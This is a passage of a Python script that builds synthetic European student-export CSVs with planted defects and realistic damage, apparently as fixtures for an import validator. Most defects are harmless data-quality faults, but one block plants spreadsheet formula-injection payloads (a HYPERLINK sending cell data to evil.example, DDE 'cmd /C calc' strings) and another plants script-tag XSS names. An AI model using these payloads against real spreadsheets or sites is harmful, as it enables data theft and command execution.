        The defective copy, and ``defect name -> spreadsheet row numbers`` (header = row 1,
        first record = row 2). Duplicate defects list every row of the group.

    Raises:
        ValueError: when ``header`` lacks a column the defects need, or there are too few rows.
    """
    missing = [column for column in HEADERS if column not in header]
    if missing:
        raise ValueError(f"plant_defects needs every supported header; missing {missing}")
    out = [dict(row) for row in rows]
    rng = random.Random(f"plant-{seed}")
    unused = list(range(len(out)))
    rng.shuffle(unused)
    planted: dict[str, list[int]] = {}

    taken: dict[int, int] = {}  # id(row) -> index in ``out``

    def take(pred: Predicate | None = None) -> Row:
        """Reserve one unused row (matching ``pred`` when one does) and return it."""
        if not unused:
            raise ValueError(f"too few rows ({len(out)}) to plant every defect; use 60 or more")
        pos = next((k for k, i in enumerate(unused) if pred is None or pred(out[i])), 0)
        index = unused.pop(pos)
        taken[id(out[index])] = index
        return out[index]

    def record(name: str, *targets: Row) -> None:
        numbers = planted.setdefault(name, [])
        numbers.extend(taken[id(target)] + 2 for target in targets)
        numbers.sort()

    def legacy(row: Row) -> bool:
        return row["username"].isdigit()

    def modern(row: Row) -> bool:
        return row["username"].startswith("S")

    # Rows with scarce traits (alumni, legacy IDs, two-part surnames) are taken first, so
    # that even a small export can host every defect in a row of the right kind.
    # -- end before start: the two date columns swapped --
    for _ in range(2):
        row = take(_is_alumni)  # swapped columns; both dates stay in the past
        start, end = row[_PE + "start_date"], row[_PE + "end_date"]
        row[_PE + "start_date"], row[_PE + "end_date"] = end, start
        if row[_PE + "end_date"] >= row[_PE + "start_date"]:  # fallback row: not an alumnus
            row[_PE + "start_date"] = (
                date.fromisoformat(row[_PE + "end_date"]) + timedelta(days=90)
            ).isoformat()
        record("end_before_start", row)

    # -- graduates still marked as attending --
    for _ in range(2):
        row = take(_is_alumni)
        row["school_year_name"] = "Alumni"
        row[_PE + "currently_attending"] = "TRUE"
        record("alumni_attending", row)

    # -- username inside the email address (case-insensitive) --
    row = take(modern)
    local = row["email_address"].split("@")[0].rstrip("0123456789")
    row["email_address"] = f"{local}.{row['username'].lower()}@{STUDENT_DOMAIN}"
    record("username_in_email", row)
    row = take(legacy)
    row["email_address"] = f"{row['username']}@{STUDENT_DOMAIN}"
    record("username_in_email", row)

    # -- accepted values --
    row = take(lambda r: r["school_year_name"].startswith("Bachelor"))
    row["school_year_name"] = row["school_year_name"].lower()
    record("invalid_school_year", row)
    row = take(lambda r: r["school_year_name"].startswith("Master 1st"))
    year = row["school_year_name"]
    fixed = year.removesuffix(" or equivalent")
    row["school_year_name"] = fixed if fixed != year else "Master 1st year"
    record("invalid_school_year", row)

    row = take(lambda r: r[_PE + "education_level_name"] == "Undergraduate")
    row[_PE + "education_level_name"] = "undergraduate"
    record("invalid_education_level", row)
    row = take(lambda r: r[_PE + "education_level_name"] == "Doctorate")
    row[_PE + "education_level_name"] = "PhD"
    record("invalid_education_level", row)

    # -- whitespace a steward cannot see --
    row = take(lambda r: " " not in r["last_name"])
    row["last_name"] = " " + row["last_name"]
    record("stray_whitespace", row)
    row = take(lambda r: " " not in r["last_name"])
    row["last_name"] = row["last_name"] + "\u00a0"
    record("stray_whitespace", row)
    row = take(lambda r: " " in r["last_name"])
    if " " in row["last_name"]:
        row["last_name"] = row["last_name"].replace(" ", "\u00a0", 1)
    else:
        row["last_name"] = "\u00a0" + row["last_name"]
    record("stray_whitespace", row)

    # -- identities: duplicates (the importer skips the later rows) --
    a, b = take(), take()
    b["username"] = a["username"]
    record("duplicate_username", a, b)

    a, b, c = take(), take(), take()
    b["email_address"] = _title_local(a["email_address"])  # differs only by case
    c["email_address"] = a["email_address"] + " "  # differs only by a trailing space
    record("duplicate_email", a, b, c)

    for _ in range(2):
        row = take()
        row["first_name"] = ""
        record("blank_first_name", row)
    for _ in range(2):
        row = take()
        row["email_address"] = ""
        record("blank_email", row)

    # -- dates --
    row = take(lambda r: _is_current(r) and int(r[_PE + "end_date"][-2:]) > 12)
    row[_PE + "end_date"] = _dmy(row[_PE + "end_date"])  # e.g. 30/06/2027
    record("bad_date_format", row)
    row = take(_is_current)
    row[_PE + "start_date"] = _dmy(row[_PE + "start_date"])
    record("bad_date_format", row)

    row = take(_is_current)
    row[_PE + "end_date"] = f"{row[_PE + 'end_date'][:4]}-02-30"
    record("impossible_date", row)
    row = take(_is_current)
    row[_PE + "start_date"] = f"{row[_PE + 'start_date'][:4]}-04-31"
    record("impossible_date", row)

    # -- booleans --
    row = take()
    row[_PE + "currently_attending"] = row[_PE + "currently_attending"].title()  # True / False
    record("bad_boolean", row)
    row = take()
    row["disabled"] = "yes"
    record("bad_boolean", row)
    row = take(lambda r: r["disabled"] == "FALSE")
    row["disabled"] = "false"
    record("bad_boolean", row)

    # -- courses over the 255-character limit, inside a ;-list --
    row = take(lambda r: r[_PE + "major_names"] != "")
    row[_PE + "major_names"] = f"{row[_PE + 'major_names']};{_LONG_COURSE}"
    record("long_course", row)
    row = take(lambda r: r[_PE + "major_names"] != "")
    row[_PE + "major_names"] = f"{_LONG_COURSE};{row[_PE + 'major_names']}"
    record("long_course", row)

    # -- phones with special characters --
    for value in ("(030) 123-456", "+49 151 1234 5678", "0151-2345678"):
        row = take()
        row["mobile_number"] = value
        record("bad_phone", row)

    # -- cells that a spreadsheet would execute --
    row = take()
    row["first_name"] = f'=HYPERLINK("https://evil.example/?d="&A2,"{row["first_name"]}")'
    record("formula_injection", row)
    row = take()
    row["gender"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    record("formula_injection", row)
    row = take()
    row["middle_name"] = "-2+3+cmd|' /C calc'!A0"
    record("formula_injection", row)

    # -- an ID that went through Excel --
    row = take()
    row["card_id"] = f"{int(row['card_id']):.5E}"  # 4.12346E+08, as Excel shows it
    record("excel_mangled_id", row)
    row = take()
    row["card_id"] = f"{int(row['card_id']):.1E}"  # 4.1E+08
    record("excel_mangled_id", row)

    # -- addresses outside the institution's domain --
    for domain in ("gmail.com", "notuni-example.eu"):
        row = take()
        row["email_address"] = row["email_address"].split("@")[0] + "@" + domain
        record("foreign_email_domain", row)

    # -- a blank label cell wipes every label of the student --
    for _ in range(2):
        row = take()
        row["system_label_names"] = ""
        record("blank_labels", row)

    # -- markup that a report must escape --
    row = take()
    row["last_name"] = "<script>alert(1)</script>"
    record("script_in_name", row)
    row = take()
    row["last_name"] = "O'Neil\"><script>alert(document.cookie)</script>"
    record("script_in_name", row)

    return out, {name: planted[name] for name in DEFECTS}


# ---------------------------------------------------------------------------------------------
# A damaged week: what a European export really looks like after Excel and a record system
# ---------------------------------------------------------------------------------------------


class Damage(NamedTuple):
    """One damaged cell: what was done to it, its spreadsheet row (header = row 1), its column."""

    kind: str
    row: int
    column: str


DAMAGES: tuple[tuple[str, int], ...] = (
    ("excel_scientific", 8),  # 0412345678 -> 4.12346E+08 (a number column too narrow)
    ("lost_leading_zero", 8),  # 0412345678 -> 412345678, 01067 -> 1067
    ("trailing_space", 12),  # "anna.muller1@student.uni-example.eu "
    ("non_breaking_space", 6),  # "von\u00a0Bülow", "Müller\u00a0"
    ("international_phone", 12),  # +49 171 1234567, +44 (0)20 7946 0958, 0049 171 ...
    ("formula_like", 5),  # "-" as a placeholder, "@anna", =PROPER("anna")
    ("day_first_date", 10),  # 30/06/2027, 30.06.2027
    ("wrong_case", 10),  # bachelor 1st year or equivalent, True, main
    ("blank_labels", 8),
    ("clear", 5),  # **CLEAR** (in optional columns, and in required ones)
    ("duplicated_student", 3),  # the same student twice (a second enrolment)
    ("mojibake", 3),  # MÃ¼ller: UTF-8 read as Windows-1252 somewhere on the way
)
"""The kinds of damage :func:`damage_week` does, with their weights (share of damaged cells)."""

_DAMAGED_COLUMNS: dict[str, tuple[str, ...]] = {
    "excel_scientific": ("card_id", "mobile_number", "username"),
    "lost_leading_zero": (
        "card_id",
        "username",
        "hometown_location_attributes:name",
        "mobile_number",
    ),
    "trailing_space": (
        "email_address",
        "first_name",
        "last_name",
        "username",
        "assigned_to_email_address",
    ),
    "non_breaking_space": ("last_name", "first_name", "email_address"),
    "international_phone": ("mobile_number",),
    "formula_like": ("middle_name", "preferred_name", "first_name"),
    "day_first_date": (_PE + "start_date", _PE + "end_date"),
    "wrong_case": (
        "school_year_name",
        _PE + "education_level_name",
        _PE + "currently_attending",
        "disabled",
        "campus_name",
    ),
    "blank_labels": ("system_label_names",),
    "clear": (
        "middle_name",
        "preferred_name",
        "assigned_to_email_address",
        "hometown_location_attributes:name",
        _PE + "minor_names",
        "last_name",
        _PE + "end_date",
    ),
    "mojibake": ("first_name", "last_name"),
}
_IDENTITIES = ("username", "email_address", "auth_identifier", "card_id")


def _excel_number(digits: str) -> str:
    """How Excel writes a number in a General cell too narrow for it: 6 significant digits."""
    mantissa, _, exponent = f"{int(digits):.5E}".partition("E")
    return f"{mantissa.rstrip('0').rstrip('.')}E{exponent}"


def _plain_phone(value: str) -> str:
    """A phone number's digits after the country code ("" when it has no country code)."""
    if value.startswith("+"):
        return value[1:]
    if value.startswith("00"):
        return value[2:]
    return ""


def _grouped(rng: random.Random, value: str) -> str | None:
    """A number as people write it in their country: +49 (0)171 1234567, +33 6 12 34 56 78,
    0049 171 1234567, +49-171-1234567; now and then a UK landline (+44 (0)20 7946 0958)."""
    digits = _plain_phone(value)
    if not digits:
        return None
    if rng.random() < 0.05:  # Ofcom's range for drama: never a real number
        return f"+44 (0)20 7946 0{int(rng.random() * 1000):03d}"
    code = next(digits[:n] for n in (3, 2) if digits[:n] in _COUNTRY_CODES)
    rest = digits[len(code) :]
    head, tail = rest[:3], rest[3:]
    style = rng.random()
    if code == "33":  # French numbers come in pairs
        return f"+33 {rest[0]} " + " ".join(rest[i : i + 2] for i in range(1, len(rest), 2))
    if code in ("49", "31") and style < 0.3:  # the trunk 0 kept in brackets
        return f"+{code} (0){head} {tail}"
    if style < 0.55:
        return f"+{code} {head} {tail}"
    if style < 0.75:
        return f"00{code} {head} {tail}"
    if style < 0.9:
        return f"+{code}-{head}-{tail}"
    return f"+{code} {head}/{tail}"


_COUNTRY_CODES = frozenset(nation.phone[0] for nation in _NATIONS.values())


def _damaged(kind: str, column: str, value: str, rng: random.Random) -> str | None:
    """``value`` of ``column`` damaged in the way ``kind`` says; None where it cannot be."""
    if kind == "excel_scientific":
        digits = value.lstrip("+")
        if column == "mobile_number" and value.startswith("00"):
            digits = value[2:]
        if not digits.isdigit() or len(digits) < 8:
            return None
        return _excel_number(digits)
    if kind == "lost_leading_zero":
        if not value.isdigit() or not value.startswith("0") or len(value) < 5:
            return None
        return value.lstrip("0")
    if kind == "trailing_space":
        return value + " " if value else None
    if kind == "non_breaking_space":
        if not value:
            return None
        return value.replace(" ", "\u00a0", 1) if " " in value else value + "\u00a0"
    if kind == "international_phone":
        return _grouped(rng, value)
    if kind == "formula_like":
        if column == "first_name":
            return f'=PROPER("{value.lower()}")' if value else None
        if value:  # a nickname as a handle
            return "@" + value.lower() if column == "preferred_name" else None
        return "-"  # a placeholder for "none"
    if kind == "day_first_date":
        if len(value) != 10 or value[4] != "-":
            return None
        year, month, day = value.split("-")
        return f"{day}/{month}/{year}" if rng.random() < 0.6 else f"{day}.{month}.{year}"
    if kind == "wrong_case":
        if not value or value.lower() == value:
            return None
        if value in ("TRUE", "FALSE"):
            return value.title() if rng.random() < 0.5 else value.lower()
        return value.lower() if rng.random() < 0.8 else value.upper()
    if kind == "blank_labels":
        return "" if value else None
    if kind == "clear":
        return "**CLEAR**" if value or column not in ("last_name", _PE + "end_date") else None
    if kind == "mojibake":
        if value.isascii():
            return None
        try:
            return value.encode("utf-8").decode("cp1252")
        except UnicodeDecodeError:
            return None
    raise ValueError(f"unknown damage {kind!r}")


def damage_week(
    header: Sequence[str], rows: Sequence[Mapping[str, str]], seed: int = 7, share: float = 0.03
) -> tuple[list[dict[str, str]], list[Damage]]:
    """Copy ``rows`` and damage about ``share`` of their cells as European exports are damaged.

    Every damaged cell is damaged once, by one of :data:`DAMAGES` (weighted). A duplicated
    student is a copy of a row appended at the end (a second enrolment, sometimes with another
    course): its identity cells (username, email, auth_identifier, card_id) are its damage, and
    the original row's identity cells are left alone. Deterministic for a given seed.

    Returns:
        The damaged copy, and every damaged cell (spreadsheet row numbers, header = row 1).

    Raises:
        ValueError: when ``header`` lacks a supported column, or ``share`` is not in (0, 0.2].
    """
    missing = [column for column in HEADERS if column not in header]
    if missing:
        raise ValueError(f"damage_week needs every supported header; missing {missing}")
    if not 0 < share <= 0.2:
        raise ValueError(f"share must be above 0 and at most 0.2, not {share}")
    out = [dict(row) for row in rows]
    rng = random.Random(f"damage-{seed}")
    target = round(share * len(out) * len(header))
    weights = sum(w for _, w in DAMAGES)
    used: set[tuple[int, str]] = set()
    damages: list[Damage] = []
    n = len(out)
    if not n:
        return out, damages

    copies = round(target * dict(DAMAGES)["duplicated_student"] / weights / len(_IDENTITIES))
    for _ in range(copies):
        index = int(rng.random() * n)
        if any((index, c) in used for c in _IDENTITIES):
            continue
        copy = dict(rows[index])
        if rng.random() < 0.5 and copy[_PE + "major_names"]:  # a second enrolment
            copy[_PE + "major_names"] = rng.choice(
                [c for _, ug, pg in _COLLEGES.values() for c in (*ug, *pg)]
            )
        out.append(copy)
        used.update((index, c) for c in _IDENTITIES)
        used.update((len(out) - 1, c) for c in header)
        damages.extend(Damage("duplicated_student", len(out) + 1, c) for c in _IDENTITIES)

    for kind, weight in DAMAGES:
        if kind == "duplicated_student":
            continue
        columns = _DAMAGED_COLUMNS[kind]
        budget = round(target * weight / weights)
        done = 0
        for _ in range(budget * 4):  # a cell that cannot take this damage is skipped
            if done == budget:
                break
            index, column = int(rng.random() * n), columns[int(rng.random() * len(columns))]
            if (index, column) in used:
                continue
            value = _damaged(kind, column, out[index][column], rng)
            if value is None or value == out[index][column]:
                continue
            out[index][column] = value
            used.add((index, column))
            damages.append(Damage(kind, index + 2, column))
            done += 1
    damages.sort(key=lambda d: (d.row, d.column))
    return out, damages


# ---------------------------------------------------------------------------------------------
# CLI
# ---------------------------------------------------------------------------------------------


WEEKS = ("2026-11-15", "2026-11-22", "2026-11-29")


def weekly_exports(rows: int, seed: int = 7) -> dict[str, tuple[list[str], list[dict[str, str]]]]:
    """Three weekly exports of one university, for the trend: good, broken, mostly mended.

    Week 1 is clean; week 2 has every planted defect and 10 new students; week 3 has the
    defects mended, 20 new students, 3 students archived, 2 label lists wiped (warnings), one
    existing student's last name left blank (the importer keeps the stored one: a sync-plan
    note), and one student whose username the record system re-issued while the email stayed:
    a defect only the comparison with week 1 (the last accepted export) can see.
    """
    header, first = generate_rows(rows, seed=seed)
    _, second = generate_rows(rows + 10, seed=seed)
    broken, _ = plant_defects(header, second, seed=seed)
    _, third = generate_rows(rows + 20, seed=seed)
    third = [dict(r) for r in third]
    for row in third[10:13]:
        row["disabled"] = "TRUE"
    for row in third[20:22]:
        row["system_label_names"] = ""
    third[40]["last_name"] = ""
    third[50]["username"] = "S9" + third[50]["username"][2:]
    return dict(zip(WEEKS, ((header, first), (header, broken), (header, third)), strict=True))


def main(argv: Sequence[str] | None = None) -> int:
    """Write ``clean.csv``, ``defective.csv``, ``defective_planted.json`` and ``weekly/``."""
    parser = argparse.ArgumentParser(
        description="Generate synthetic Handshake student sync exports (EU format)."
    )
    parser.add_argument("--rows", type=int, default=DEFAULT_ROWS, help="rows per file (300)")
    parser.add_argument("--seed", type=int, default=7, help="random seed (7)")
    parser.add_argument(
        "--out", type=Path, default=Path(__file__).resolve().parent, help="output folder"
    )
    args = parser.parse_args(argv)
    if args.rows < 60:
        parser.error("--rows must be at least 60 so that every defect can be planted")
    out: Path = args.out
    out.mkdir(parents=True, exist_ok=True)
    header, rows = generate_rows(args.rows, seed=args.seed)
    write_csv(out / "clean.csv", header, rows)
    defective, planted = plant_defects(header, rows, seed=args.seed)
    write_csv(out / "defective.csv", header, defective)
    (out / "defective_planted.json").write_text(
        json.dumps(planted, indent=2) + "\n", encoding="utf-8"
    )
    (out / "weekly").mkdir(exist_ok=True)
    for week, (week_header, week_rows) in weekly_exports(args.rows, seed=args.seed).items():
        write_csv(out / "weekly" / f"{week}.csv", week_header, week_rows)
    print(f"wrote {len(rows)} clean and {len(defective)} defective rows, and 3 weeks, to {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
